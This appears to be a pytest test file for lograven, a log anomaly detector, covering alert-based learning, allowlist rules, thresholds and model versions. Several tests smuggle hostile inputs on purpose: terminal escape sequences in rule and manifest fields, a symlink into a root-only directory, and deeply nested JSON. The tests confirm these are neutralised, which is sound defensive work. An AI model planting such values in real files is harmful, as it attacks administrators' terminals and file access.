    from lograven.learning import corpus_from_alerts

    messages, lines = _routine_log(tmp_path, 12)
    lines[4] = "Jun  9 07:00:04 web01 sshd[9]: Invalid user minecraft from 10.0.0.9 port 4242"
    lines[6] = "Jun  9 07:00:06 web01 kernel: /dev/sda1 out of diskspace"
    lines[9] = "Jun  9 07:00:09 web01 weird[1]: zzzz frobnicate"
    messages.write_text("\n".join(lines) + "\n")
    at = [sum(len(x) + 1 for x in lines[:i]) for i in range(len(lines))]
    alerts = tmp_path / "alerts.jsonl"
    rows = [_alert(id=f"a{i}", file=str(messages), offset=at[i], line=lines[i]) for i in (4, 6, 9)]
    alerts.write_text("".join(a.to_json() + "\n" for a in rows))
    with caplog.at_level("INFO", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file", ids={"a6"})
    assert corpus.messages == [f"routine work item {i}" for i in (5,)] + ["/dev/sda1 out of diskspace"] + [
        f"routine work item {i}" for i in (7, 8)]
    assert "alert a6 hold 2 other alert(s) not named" in caplog.text
    everything = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert "Invalid user minecraft from 10.0.0.9 port 4242" in everything.messages
    assert "zzzz frobnicate" in everything.messages
    # the other alert read before the file was rotated (its old name), the named one after (read_from):
    # one line all the same. An alert of an older generation at an offset where this file has another
    # line does not cut the context there (review, 2026-12-07)
    rotated = messages.with_name("messages.1")
    messages.rename(rotated)
    messages.write_text("")
    rows = [_alert(id="u4", file=str(messages), offset=at[4], line=lines[4]),
            _alert(id="old", file=str(messages), offset=at[2], line="Jun  2 03:00:00 web01 foo[1]: another week"),
            _alert(id="n6", file=str(messages), read_from=str(rotated), offset=at[6], line=lines[6])]
    alerts.write_text("".join(a.to_json() + "\n" for a in rows))
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file", ids={"n6"})
    assert corpus.messages[0] == "routine work item 5" and "routine work item 2" not in corpus.messages
    rows[0].offset = at[3]  # not the minecraft line's offset: not its line
    alerts.write_text("".join(a.to_json() + "\n" for a in rows))
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file", ids={"n6"})
    assert corpus.messages[:3] == ["routine work item 0", "routine work item 1", "routine work item 2"]
    assert "Invalid user minecraft from 10.0.0.9 port 4242" in corpus.messages


def test_allow_list_and_models_list_print_no_terminal_escapes(tmp_path, capsys):
    """allowlist.json and the manifests are the daemon user's files (and a rule's `file` comes from a log
    file's name): an admin's `allow --list` or `models list` must not pass escape sequences to the terminal."""
    from lograven import cli

    allow = tmp_path / "allow.json"
    al = Allowlist(allow)
    al.add(new_rule(type_id=5, comment="\x1b]0;owned\x07\x1b[2J", file="/var/log/\x1b[31mx.log"))
    assert cli.main(["allow", "--list", "--allowlist", str(allow)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b" in out
    store = ModelStore(tmp_path / "models")
    v = store.new_version_path()
    v.mkdir(exist_ok=True)
    (v / "manifest.json").write_text('{"format_version": "\\u001b[2J"}')
    assert cli.main(["models", "list", "--dir", str(store.root)]) == 0
    out = capsys.readouterr().out
    assert "v0001" in out and "\x1b" not in out


def test_context_is_never_read_through_a_linked_directory_or_a_deeper_path(tmp_path):
    """Review of the restriction: fnmatch's `*` also matched `/` (`log/*.log` took `log/own/x/secret.log`),
    and O_NOFOLLOW checks only the last component, so a directory link owned by the daemon's user led
    to a root-only file. A rotated file named by its resolved path (as the tailer names it) still counts."""
    from lograven.learning import _may_read_for_context

    logs = tmp_path / "log"
    (logs / "own").mkdir(parents=True)
    secret_dir = tmp_path / "root-only"
    secret_dir.mkdir()
    (logs / "own" / "x").symlink_to(secret_dir)
    real_logs = tmp_path / "data"
    real_logs.mkdir()
    (tmp_path / "linked").symlink_to(real_logs)
    pats = [str(logs / "*.log"), str(logs / "*" / "*" / "*.log"), str(tmp_path / "linked" / "messages")]
    assert _may_read_for_context(str(logs / "a.log"), str(logs / "a.log"), pats)
    assert _may_read_for_context(str(logs / "a.log"), str(logs / "a.log.1"), pats)  # rotated beside it
    assert not _may_read_for_context(str(logs / "own" / "b.log"), str(logs / "own" / "b.log"), [pats[0]])  # deeper
    assert not _may_read_for_context(str(logs / "own" / "x" / "s.log"), str(logs / "own" / "x" / "s.log"), pats)  # a link
    assert not _may_read_for_context(str(logs / "a.log"), str(tmp_path / "a.log.1"), pats)  # elsewhere
    linked = str(tmp_path / "linked" / "messages")
    assert not _may_read_for_context(linked, linked, pats)  # a source under a linked directory: no context
    assert _may_read_for_context(linked, str(real_logs / "messages.1"), pats)  # its rotated file, resolved


def test_learning_normal_lines_never_lowers_the_autoencoder_threshold(bundle_dir, tmp_path, caplog) -> None:
    """`lograven learn` on ordinary lines recalibrated the autoencoder on a few hundred held-back lines,
    mostly texts the parent was trained on, and lowered its threshold (default model: 5.37 -> 4.87;
    a week-one soak saw 0 -> 43 autoencoder false alarms in 20,000 normal lines, and periodic relearning
    lowered it again each time). The learned model keeps the parent's threshold when its own is lower."""
    from lograven.bundle import load_bundle
    from lograven.detector import Detector
    from lograven.learning import learn
    from lograven.parsing import Parser
    from lograven.training import read_corpus

    write_log(tmp_path / "new.log", LogGenerator(seed=5).lines(200))
    with caplog.at_level("INFO", logger="lograven.learning"):
        out, summary = learn(bundle_dir, read_corpus([str(tmp_path / "new.log")]), out=tmp_path / "m")
    parent, child = load_bundle(bundle_dir).autoencoder, load_bundle(out).autoencoder
    cal = child.calibration_
    assert cal["recalibrated_threshold"] < parent.threshold_, cal  # what recalibration alone gives
    assert child.threshold_ == cal["threshold"] == summary["autoencoder_threshold"] == parent.threshold_
    assert cal["kept_parent_threshold"] and "keeping the parent's" in caplog.text
    parser = Parser("syslog")
    fresh = [("f", parser.parse(x)) for x in LogGenerator(seed=9).lines(3000)]

    def ae_alarms(path) -> int:
        return sum("autoencoder" in v.detectors for v in Detector(load_bundle(path)).detect(fresh))

    assert ae_alarms(out) <= ae_alarms(bundle_dir) + 3  # not stricter on normal lines than before learning


def test_learn_with_format_and_stream_records_them_for_every_source(bundle_dir, tmp_path) -> None:
    """A parent from before `read_as_recorded` (0.1.0) is judged on its first source only; `learn
    --format F --stream S` knows both for the new version, so it records them as holding everywhere."""
    import shutil

    from lograven.learning import learn
    from lograven.training import read_corpus
    from test_bundle import manifest_of, write_manifest

    parent = tmp_path / "parent"
    shutil.copytree(bundle_dir, parent)
    m = manifest_of(parent)
    m["training"].pop("read_as_recorded", None)
    write_manifest(parent, m)
    write_log(tmp_path / "new.log", LogGenerator(seed=5).lines(200))
    corpus = read_corpus([str(tmp_path / "new.log")])
    _, summary = learn(parent, corpus, out=tmp_path / "m", read_as={"format": "syslog", "stream": "program"})
    assert summary["read_as_recorded"] is True and summary["stream"] == "program"


def test_learning_every_alert_of_a_file_must_be_asked_for(tmp_path, monkeypatch, capsys):
    """`learn --from-alerts FILE` without --alert learned every alert of the file: an audit learned a day's
    alerts, and six of seven real attacks in it became normal, without a word. It now takes --alert IDs,
    or --all-alerts for a file the admin reviewed. The summary shows the new types and how to undo."""
    from lograven import cli
    from lograven import learning as learning_mod

    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text(json.dumps({"id": "a1", "file": "/x", "offset": 0, "line": "l", "type_id": -1}) + "\n")
    store = tmp_path / "models"
    shutil.copytree(DEFAULT_MODEL, store / "v0001")
    (store / "current").symlink_to("v0001")
    rc = cli.main(["learn", "--model", str(store), "--from-alerts", str(alerts)])
    err = capsys.readouterr().err
    assert rc == 1 and "would learn every alert in it as normal" in err and "--all-alerts" in err
    assert cli.main(["learn", "--model", str(store), "--from-alerts", str(alerts), "--all-alerts", "--alert", "a1"]) == 1
    capsys.readouterr()

    def fake_learn(model, corpus, **kw):
        return store / "v0002", {"parent": "p", "made_current": True, "learned_lines": 9, "new_types": [104],
                                 "new_type_templates": [{"id": 104, "template": "<*> Link DOWN"}],
                                 "autoencoder_threshold": 5.1, "parent_autoencoder_threshold": 4.4,
                                 "parent_version": "v0001", "seconds": 1.0}  # fmt: skip

    monkeypatch.setattr(learning_mod, "learn", fake_learn)
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"sources:\n  - paths: [{tmp_path}/x]\nstate_dir: {tmp_path / 'state'}\n")
    assert cli.main(["learn", "--model", str(store), "--from-alerts", str(alerts), "--alert", "a1", "--config", str(cfg)]) == 0
    out = capsys.readouterr().out
    assert "#104   <*> Link DOWN" in out
    assert "autoencoder threshold 5.100 (parent 4.400)" in out
    assert f"lograven models rollback --dir {store} --to v0001" in out
    assert "their messages are known types now" in out
    # nothing new learned: no claim that anything is a known type now
    monkeypatch.setattr(learning_mod, "learn", lambda model, corpus, **kw: (
        store / "v0002", {**fake_learn(model, corpus)[1], "new_types": [], "new_type_templates": []}))
    assert cli.main(["learn", "--model", str(store), "--from-alerts", str(alerts), "--alert", "a1", "--config", str(cfg)]) == 0
    out = capsys.readouterr().out
    assert "known types now" not in out and f"--to v0001" in out
    # a single bundle written to --out: nothing serves it until the daemon's `model:` names it
    monkeypatch.setattr(learning_mod, "learn", lambda model, corpus, **kw: (
        tmp_path / "m2", {**fake_learn(model, corpus)[1], "made_current": False, "parent_version": None}))
    assert cli.main(["learn", "--model", str(store), "--out", str(tmp_path / "m2"), "--from-alerts", str(alerts),
                     "--alert", "a1", "--config", str(cfg)]) == 0  # fmt: skip
    out = capsys.readouterr().out
    assert f"set `model: {tmp_path / 'm2'}`" in out and "rollback" not in out


def test_allow_refuses_a_rule_that_silences_a_whole_detector_everywhere(tmp_path, capsys):
    """`allow --type -1` allowlisted every unknown message in every file: an audit's EXT4 error, OOM kill
    and root shell then raised nothing. Such a rule needs --file; a detector alone is turned off in the config."""
    from lograven import cli

    path = tmp_path / "allow.json"
    for argv in (["--type", "-1"], ["--detector", "unknown_type"], ["--detector", "sequence"],
                 ["--type", "-1", "--detector", "autoencoder"], ["--transition", "3,-1"],
                 ["--detector", "stream_end"]):  # fmt: skip
        assert cli.main(["allow", "--allowlist", str(path), *argv]) == 1, argv
        err = capsys.readouterr().err
        assert "in every file, real anomalies included" in err and "--file GLOB" in err, err
    assert "stream_end_after: 0" in err  # the last one: stream ends have no `enabled`
    assert not path.exists()
    assert cli.main(["allow", "--allowlist", str(path), "--type", "-1", "--file", "/var/log/app/*.log"]) == 0
    assert cli.main(["allow", "--allowlist", str(path), "--type", "3", "--detector", "sequence"]) == 0
    # such a rule made before (or by hand) is pointed out in the list
    doc = json.loads(path.read_text())
    doc["rules"].append({**doc["rules"][0], "id": "rbroad01", "file": None})
    path.write_text(json.dumps(doc))
    capsys.readouterr()
    assert cli.main(["allow", "--allowlist", str(path), "--list"]) == 0
    out = capsys.readouterr().out
    assert out.count("warning: allows every") == 1 and "lograven allow --remove rbroad01" in out


def test_allow_by_alert_id_matches_its_own_file_only_whatever_its_name(tmp_path):
    """From a review: the alert's file was copied into the rule unescaped and matched as a glob, so a rule
    for /var/log/app[1].log (or a pod's `ns_pod-[abc]`) did not suppress its own alert, and one for a?.log
    also allowed ab.log."""
    for name, other in (("/var/log/app[1].log", "/var/log/app1.log"), ("/var/log/pods/ns_pod-[abc]/0.log", None),
                        ("/var/log/a?.log", "/var/log/ab.log"), ("/var/log/x*.log", "/var/log/xsecure.log")):  # fmt: skip
        al = Allowlist(tmp_path / "allow.json", load=False)
        al.rules = []
        a = _alert(file=name)
        al.add(rule_from_alert(a.to_dict()))
        al._checked = 0
        assert al.matches(a), name
        if other is not None:
            assert not al.matches(_alert(file=other)), (name, other)


def test_allow_refuses_a_file_glob_that_matches_every_file_where_no_file_is_refused(tmp_path, capsys):
    """From a review: `--file '*'` got round the refusal of `--type -1` (every unknown message everywhere),
    `--file '/*'` round that of a whole detector, and `--file '*'` alone allowed every alert; `--list`
    warned of none of them."""
    from lograven import cli

    path = tmp_path / "allow.json"
    for argv in (["--type", "-1", "--file", "*"], ["--detector", "autoencoder", "--file", "/*"],
                 ["--file", "*"], ["--file", "/**/*"], ["--file", "/[a-z]*/*"]):  # fmt: skip
        assert cli.main(["allow", "--allowlist", str(path), *argv]) == 1, argv
        err = capsys.readouterr().err
        assert "matches every path" in err and "real anomalies included" in err or "alert on nothing" in err, err
    assert not path.exists()
    for argv in (["--file", "/var/log/app/*.log"], ["--type", "-1", "--file", "*.log"], ["--type", "3", "--file", "*"]):
        assert cli.main(["allow", "--allowlist", str(path), *argv]) == 0, argv
    doc = json.loads(path.read_text())  # such rules from before (or by hand) are pointed out in the list
    doc["rules"] += [{**doc["rules"][0], "id": "rbroad01", "file": "*"},
                     {**doc["rules"][1], "id": "rbroad02", "file": "/*"}]
    path.write_text(json.dumps(doc))
    capsys.readouterr()
    assert cli.main(["allow", "--allowlist", str(path), "--list"]) == 0
    out = capsys.readouterr().out
    assert out.count("warning: allows every") == 2, out
    assert "warning: allows every alert in every file" in out and "warning: allows every unknown message" in out


def test_models_list_says_what_each_version_learned():
    """A learned version inherits its parent's training summary: `models list` showed "30000 lines" on
    every version, whatever each had learned (an audit). It now says what each learned, and on what."""
    from lograven.modelstore import VersionInfo, describe

    trained = {"id": "a", "created": "c", "training": {"lines": 30000, "types": 100}}
    learned = {"id": "b", "created": "c", "training": {"lines": 30000, "types": 103, "learned_lines": 219,
                                                       "learned_from": "alerts a.jsonl (x1)", "parent": "a"}}  # fmt: skip
    assert "trained on 30000 lines, 100 types" in describe(VersionInfo("v0001", Path("/m/v0001"), False, trained, None))
    text = describe(VersionInfo("v0002", Path("/m/v0002"), True, learned, None))
    assert text.startswith("* v0002") and "learned 219 lines from alerts a.jsonl (x1) on a" in text and "30000" not in text


def test_alerts_close_together_are_learned_as_one_stretch_of_their_file(tmp_path):
    """An audit's 961 alerts made 70,153 lines to learn from a 45,461-line file: every alert's 72 lines
    of context, overlapping, learned again for each. Alerts whose contexts overlap are one stretch of
    the file, learned once as one stream; an alert far from them is a stream of its own."""
    from lograven.learning import corpus_from_alerts

    log = tmp_path / "messages"
    lines = [f"Jun  9 07:{i // 60:02d}:{i % 60:02d} web01 app[7]: work item {i} done" for i in range(400)]
    log.write_text("".join(x + "\n" for x in lines))
    offsets = [sum(len(x) + 1 for x in lines[:i]) for i in range(400)]
    burst, far = [100, 103, 110, 150], 300
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text("".join(_alert(id=f"a{i}", file=str(log), offset=offsets[i], line=lines[i]).to_json() + "\n"
                              for i in [far, *reversed(burst)]))  # fmt: skip
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    learned = [m.rsplit(" ", 2)[-2] for m in corpus.messages]  # the item numbers
    assert len(learned) == len(set(learned))  # every line once
    stretch = [str(i) for i in range(100 - 64, 150 + 9)]  # 64 before the first, 8 after the last
    assert learned[: len(stretch)] == stretch  # in file order, one stream
    assert len(set(corpus.streams[: len(stretch)])) == 1
    assert learned[len(stretch):] == [str(i) for i in range(300 - 64, 300 + 9)]
    assert corpus.streams[len(stretch)] != corpus.streams[0]


def test_alert_context_never_learns_a_line_cut_by_the_read(tmp_path):
    """The context read ahead stops after a fixed number of bytes: its last piece was learned as a line,
    and with overlapping alerts merged, the cut piece was the only copy of that line learned."""
    from lograven.learning import corpus_from_alerts

    log = tmp_path / "messages"
    lines = [f"Jun  9 07:00:{i % 60:02d} web01 app[7]: item {i} " + "x" * 880 for i in range(40)]
    log.write_text("".join(x + "\n" for x in lines) + "Jun  9 07:01:00 web01 app[7]: still being writ")
    offsets = [sum(len(x) + 1 for x in lines[:i]) for i in range(40)]
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text("".join(_alert(id=f"a{i}", file=str(log), offset=offsets[i], line=lines[i]).to_json() + "\n"
                              for i in (10, 16, 39)))  # fmt: skip
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file", max_line_bytes=1000)
    whole = {ln.split(": ", 1)[1] for ln in lines}
    assert corpus.messages and all(m in whole for m in corpus.messages), [m[:40] for m in corpus.messages if m not in whole]
    assert len(corpus.messages) == len(set(corpus.messages))


def test_learning_from_alerts_teaches_no_end_where_the_context_was_cut(tmp_path, monkeypatch, bundle_dir, caplog):
    """A model of sessions (training.sequence.stream_end) learns where streams end. The lines around an
    alert are a stretch cut out of the log: the sessions in it go on before and after, so their last line
    there is no end, and learning a false alarm must not teach that sessions may stop anywhere. A
    stream-end alert is the exception: its stream did end at its line, and the operator says that end is
    normal. (Before, every stream of the stretch was taught as ended at its last line there.)"""
    from lograven import learning
    from lograven.learning import corpus_from_alerts
    from lograven.training import streams_ended, type_sequences, with_final_ends

    log = tmp_path / "blocks.log"
    lines = []
    for i in range(40):  # blocks 1..4 interleaved; block 9 ends at line 30
        lines.append(f"Jun  9 07:00:{i % 60:02d} dn1 dfs[1]: Receiving block blk_{1 + i % 4} part {i}")
        if i == 30:
            lines.append("Jun  9 07:00:30 dn1 dfs[1]: Deleting block blk_9 file /data/blk_9")
    log.write_text("\n".join(lines) + "\n")
    data = log.read_bytes()
    mid = lines[20]
    end = "Jun  9 07:00:30 dn1 dfs[1]: Deleting block blk_9 file /data/blk_9"
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text("\n".join([
        _alert(id="a1", file=str(log), offset=data.index(mid.encode()), line=mid, stream="blk_1",
               detectors=[DetectorHit("sequence", 0.001, 0.1, "p/p_train<0.1")]).to_json(),
        _alert(id="a2", file=str(log), offset=data.index(end.encode()), line=end, stream="blk_9",
               detectors=[DetectorHit("sequence", 0.001, 0.1, "stream end p/p_train<0.1")]).to_json(),
    ]) + "\n")  # fmt: skip
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream=r"regex:(blk_\d+)")
    # the end alert's line in an earlier alert's stretch (a line alert on it, or just before it): still an end
    near = lines[29]
    for other in (end, near):
        twice = tmp_path / "twice.jsonl"
        twice.write_text("\n".join([
            _alert(id="b1", file=str(log), offset=data.index(other.encode()), line=other, stream="blk_9").to_json(),
            alerts.read_text().splitlines()[1],
        ]) + "\n")  # fmt: skip
        got = corpus_from_alerts(twice, fmt="syslog", stream=r"regex:(blk_\d+)")
        assert {s.split(":", 1)[1]: e for s, e in got.final_ends.items()}["blk_9"] is True
    # rotated: a line alert read from the rotated file (read_from) holds the end alert's line, which names
    # the file by its old name; a line at that offset in the new file, with other text, is no end
    rotated = tmp_path / "blocks.log.1"
    shutil.copy(log, rotated)
    log.write_text("".join(ln.replace("blk_", "blk_9") + "\n" for ln in lines))  # other lines at the same offsets
    other_line = log.read_text().splitlines()[25]
    rot = tmp_path / "rotated.jsonl"
    rot.write_text("\n".join([
        _alert(id="r1", file=str(log), read_from=str(rotated), offset=data.index(lines[27].encode()), line=lines[27],
               stream="blk_4").to_json(),
        alerts.read_text().splitlines()[1],  # the end alert: file blocks.log, offset in what is now blocks.log.1
        _alert(id="r2", file=str(log), offset=log.read_bytes().index(other_line.encode()), line=other_line,
               stream="x").to_json(),
    ]) + "\n")  # fmt: skip
    with caplog.at_level("WARNING", logger="lograven.learning"):
        got = corpus_from_alerts(rot, fmt="syslog", stream=r"regex:(blk_\d+)")
    assert "is a stream end whose line cannot be read back" not in caplog.text  # it was, in r1's stretch
    ended_streams = {s for s, e in got.final_ends.items() if e}
    assert [s.split(":", 1)[1] for s in ended_streams] == ["blk_9"] and ended_streams <= {
        s for s, f in zip(got.streams, got.files) if f == str(log)}  # fmt: skip
    shutil.copy(rotated, log)
    # the file gone: the end alert's line alone teaches no end (a session of one line would end)
    gone = tmp_path / "gone.jsonl"
    gone.write_text(alerts.read_text().replace(str(log), str(tmp_path / "rotated-away")))
    caplog.clear()
    with caplog.at_level("WARNING", logger="lograven.learning"):
        assert set(corpus_from_alerts(gone, fmt="syslog", stream=r"regex:(blk_\d+)").final_ends.values()) == {False}
    assert "alert a2 is a stream end whose line cannot be read back" in caplog.text and "lograven allow a2" in caplog.text
    assert len(corpus) >= 35 and len({s.split(":", 1)[0] for s in corpus.streams}) == 1  # overlapping: one stretch
    ends = {s.split(":", 1)[1]: e for s, e in corpus.final_ends.items()}
    assert ends == {"blk_1": False, "blk_2": False, "blk_3": False, "blk_4": False, "blk_9": True}
    # the streams' order of first appearance, as learn's sequences come
    ended = with_final_ends(corpus.streams, streams_ended(corpus.streams), corpus.final_ends)
    order = list(dict.fromkeys(corpus.streams))
    assert len(type_sequences(corpus.streams, np.ones(len(corpus), dtype=np.int64))) == len(order) == len(ended)
    assert {s.split(":", 1)[1]: e for s, e in zip(order, ended)} == ends
    # without the fix, the blocks that stop early in the stretch would have been taught as ended
    assert any(streams_ended(corpus.streams)[k] for k, s in enumerate(order) if not s.endswith("blk_9"))

    # learn gives the sequence model exactly those ends
    seen = {}

    class Stop(Exception):
        pass

    def fit(self, seqs, n_types, **kw):
        seen["ended"] = list(kw["ended"])
        raise Stop

    monkeypatch.setattr(learning.SequenceModel, "fit", fit)
    with pytest.raises(Stop):
        learning.learn(bundle_dir, corpus, out=tmp_path / "v2")
    assert seen["ended"][-len(order):] == ended


def test_an_allowlist_nested_too_deeply_or_not_a_file_keeps_the_rules_and_never_blocks(tmp_path, caplog):
    """100,000 `[` in allowlist.json: a RecursionError traceback at start (the daemon would not start), in
    check and `allow --list`, and at every alert; a FIFO blocked them for ever (bundle review, 2026-12-07).
    Both are an unreadable allowlist: named with the fix, the previous rules kept."""
    from conftest import call_within

    from lograven.allowlist import allowlist_problems
    from lograven.errors import LogravenError

    path = tmp_path / "allow.json"
    al = Allowlist(path)
    al.add(new_rule(type_id=3))
    path.write_text("[" * 100_000 + "]" * 100_000)
    [said] = allowlist_problems(path)
    assert said.startswith(f"{path}: unreadable allowlist (not JSON: nested too deeply)") and "delete it" in said
    with caplog.at_level("ERROR"):
        assert al.reload(strict=False) is False
    assert len(al.valid_rules) == 1 and "keeping the previous rules (1 valid)" in caplog.text
    with pytest.raises(LogravenError, match="nested too deeply"):
        Allowlist(path, load=False).reload(strict=True)
    path.unlink()
    os.mkfifo(path)
    got = call_within(lambda: allowlist_problems(path))
    assert "not a regular file" in got[0], got


def test_one_odd_learned_line_does_not_raise_the_autoencoder_threshold(caplog) -> None:
    """Corrective-action review (2026-12-07, night): the 0.999 quantile of a learn's few hundred held-back
    lines is their largest error, so one 3,000-character line among 300 learned ones raised the default
    model's threshold from 5.37 to 6.93, and the autoencoder then flagged none of the anomalies it had
    flagged. A raise rests on at least RAISE_MIN_LINES held-back lines; a large hold-out is left alone."""
    from types import SimpleNamespace

    from lograven.learning import RAISE_MIN_LINES, keep_parent_threshold

    def fake(errs, weights, threshold):
        return SimpleNamespace(holdout_errors_=np.array(errs, dtype=float), holdout_weights_=np.array(weights, dtype=float),
                               threshold_=threshold, params=SimpleNamespace(quantile=0.999),
                               calibration_={"quantile": 0.999, "threshold": threshold})  # fmt: skip

    parent = SimpleNamespace(threshold_=5.0)
    odd = fake([1.0] * 559 + [9.0], [1] * 560, 9.0)  # one outlier held back
    with caplog.at_level("INFO", logger="lograven.learning"):
        keep_parent_threshold(odd, parent)
    assert odd.threshold_ == 5.0 and odd.calibration_["recalibrated_threshold"] == 9.0
    assert f"fewer than {RAISE_MIN_LINES} held-back lines" in caplog.text
    learned = fake([1.0] * 550 + [6.0] * (RAISE_MIN_LINES + 1) + [9.0], [1] * (551 + RAISE_MIN_LINES + 1), 9.0)
    keep_parent_threshold(learned, parent)  # a message held back on several lines still raises it
    assert learned.threshold_ == 6.0
    weighted = fake([1.0, 6.0, 9.0], [550, RAISE_MIN_LINES, 1], 9.0)  # lines per text count
    keep_parent_threshold(weighted, parent)
    assert weighted.threshold_ == 6.0
    many = fake([1.0] * 9999 + [9.0], [1] * 10000, 9.0)  # 10 lines in the tail: the quantile stands
    keep_parent_threshold(many, parent)
    assert many.threshold_ == 9.0 and "capped_raise" not in many.calibration_


def test_a_learned_message_the_autoencoder_cannot_reconstruct_gets_its_own_threshold(bundle_dir, tmp_path, monkeypatch,
                                                                                      caplog) -> None:  # fmt: skip
    """`evaluate --feedback learn` on HDFS (2026-12-07): after the global threshold stopped rising on a few held-back
    lines, learned replication lines (`BLOCK* ask ... to replicate`) went on alerting through the autoencoder in
    every later part (F1 0.964 -> 0.946). A type whose named lines still score above the threshold now gets its
    own threshold (the second largest error of those lines): they no longer alert, the global threshold stays,
    and a line of another type with the same error still alerts. One named line raises nothing."""
    from lograven.autoencoder import Autoencoder
    from lograven.bundle import load_bundle
    from lograven.detector import Detector
    from lograven.learning import learn
    from lograven.parsing import Parser
    from lograven.training import read_corpus

    real = Autoencoder.score

    def score(self, texts):  # the fine-tuned model still cannot reconstruct these two messages
        return real(self, texts) + np.array([30.0 if "replicate" in t or "rootkit" in t else 0.0 for t in texts])

    monkeypatch.setattr(Autoencoder, "score", score)
    odd = [f"Jun 10 07:00:{i:02d} web01 namenode[77]: BLOCK* ask 10.0.0.{i} to replicate blk_{i}77 to 10.0.1.{i}"
           for i in range(6)]  # fmt: skip
    write_log(tmp_path / "new.log", LogGenerator(seed=5).lines(200))
    with (tmp_path / "new.log").open("a") as f:
        f.write("\n".join(odd) + "\n")
    corpus = read_corpus([str(tmp_path / "new.log")])
    corpus.vouch_all = True  # as `lograven learn FILE` gives it
    with caplog.at_level("INFO", logger="lograven.learning"):
        out, summary = learn(bundle_dir, corpus, out=tmp_path / "m")
    child = load_bundle(out)
    [raised] = summary["raised_type_thresholds"]
    assert "replicate" in raised["template"] and raised["threshold"] > 30
    assert child.autoencoder.threshold_ < 30 and child.autoencoder.type_thresholds_ == {raised["id"]: pytest.approx(raised["threshold"])}
    assert "that type's threshold is now" in caplog.text
    parser = Parser("syslog")
    probe = [("s", parser.parse("Jun 10 08:00:00 web01 namenode[77]: BLOCK* ask 10.0.0.9 to replicate blk_977 to 10.0.1.9")),
             ("s", parser.parse("Jun 10 08:00:01 web01 kernel: rootkit installed in /lib/modules"))]  # fmt: skip
    learned_line, other = Detector(child).detect(probe)
    assert learned_line.type_id == raised["id"] and "autoencoder" not in learned_line.detectors
    assert learned_line.ae_threshold == pytest.approx(raised["threshold"], rel=1e-6)
    assert "autoencoder" in other.detectors and other.ae_threshold == pytest.approx(child.autoencoder.threshold_)
    # `check` shows them beside the global threshold (a code review: it showed the global one alone)
    from lograven.cli import _detectors_in_force
    from lograven.config import parse_config

    assert "(1 message type(s) learned with their own, up to " in _detectors_in_force(child, parse_config({}))
    # before: the same line alerted on the parent, and the threshold per type survives another learn
    assert "autoencoder" in Detector(load_bundle(bundle_dir)).detect(probe[:1])[0].detectors
    def lines(idx: list[int]):
        c = read_corpus([str(tmp_path / "new.log")])
        for name in ("files", "messages", "programs", "streams", "times"):
            setattr(c, name, [getattr(c, name)[i] for i in idx])
        return c

    out2, summary2 = learn(out, lines(list(range(50))), out=tmp_path / "m2")  # nothing named (periodic relearning)
    assert summary2["raised_type_thresholds"] == [] and load_bundle(out2).autoencoder.type_thresholds_ == child.autoencoder.type_thresholds_
    # one named line of a message raises nothing (an odd line is no message)
    one = lines([*range(150), len(corpus) - 1])
    one.vouched = [one.messages[-1]]
    _, summary3 = learn(bundle_dir, one, out=tmp_path / "m3")
    assert summary3["raised_type_thresholds"] == []


def test_a_learn_does_not_replace_a_version_made_current_meanwhile(bundle_dir, tmp_path, monkeypatch, capsys) -> None:
    """Corrective-action review (2026-12-07, night): two `lograven learn` runs at once (or one beside the
    daemon's relearning) both started from v0001, and the one that finished last was made current over the
    other, whose corrective action was lost without a word. The later one is now saved, not made current,
    and says how to get both."""
    from lograven import cli
    from lograven.msgtypes import MessageTypes

    store = ModelStore(tmp_path / "models")
    for name in ("v0001", "v0002"):
        shutil.copytree(bundle_dir, store.root / name)
    store.set_current("v0001")
    real_update, moved = MessageTypes.update, []

    def update_while_another_finishes(self, *a, **k):
        if not moved:
            moved.append(1)
            store.set_current("v0002")  # the other learn's version, made current meanwhile
        return real_update(self, *a, **k)

    monkeypatch.setattr(MessageTypes, "update", update_while_another_finishes)
    write_log(tmp_path / "new.log", LogGenerator(seed=5).lines(200))
    assert cli.main(["-q", "learn", "--model", str(store.root), str(tmp_path / "new.log")]) == 0
    out = capsys.readouterr().out
    assert store.current_name() == "v0002"
    assert "v0003" in store.versions()
    assert "not made current: another version became current while learning" in out
    assert f"--to v0003" in out and "it is now current" not in out


def test_compressed_generations_are_decompressed_once_for_all_alerts_and_within_a_budget(tmp_path, monkeypatch, caplog):
    """A review: each alert decompressed its generation from the start again (20 alerts in a 125 MB .gz:
    2.5 s; 961 alerts in 1 GB generations: about an hour), without a bound (a 2 MB archive of 2 GiB of
    zeros and a forged offset: 5 s of CPU per alert and generation). A run now reads each generation
    once, forward, and decompresses at most PACKED_BUDGET bytes in all, then says so."""
    import gzip

    from lograven import learning
    from lograven.learning import corpus_from_alerts

    log = tmp_path / "messages"
    lines = [f"Jun  9 07:{i // 60 % 60:02d}:{i % 60:02d} web01 app[1]: routine work item {i}" for i in range(20_000)]
    data = ("\n".join(lines) + "\n").encode()
    (tmp_path / "messages.2.gz").write_bytes(gzip.compress(data))
    log.write_text("Jun 10 00:00:01 web01 kernel: " + "X" * len(data) + "\n")  # other content at every offset
    picked = range(1000, 20_000, 1000)  # 19 alerts across the file
    alerts = [_alert(id=f"a{i}", file=str(log), offset=data.index((lines[i] + "\n").encode()), line=lines[i])
              for i in picked]  # fmt: skip
    path = tmp_path / "alerts.jsonl"
    path.write_text("".join(a.to_json() + "\n" for a in alerts))
    monkeypatch.setattr(learning, "PACKED_BUDGET", int(len(data) * 1.5))  # once through: enough; once per alert: not
    with caplog.at_level("INFO", logger="lograven.learning"):
        corpus = corpus_from_alerts(path, fmt="syslog", stream="file")
    assert caplog.text.count("(rotated since): learning it with the lines around it") == len(picked), caplog.text[-3000:]
    assert "decompressed for alerts' context" not in caplog.text
    assert all(f"routine work item {i - 5}" in corpus.messages for i in picked)
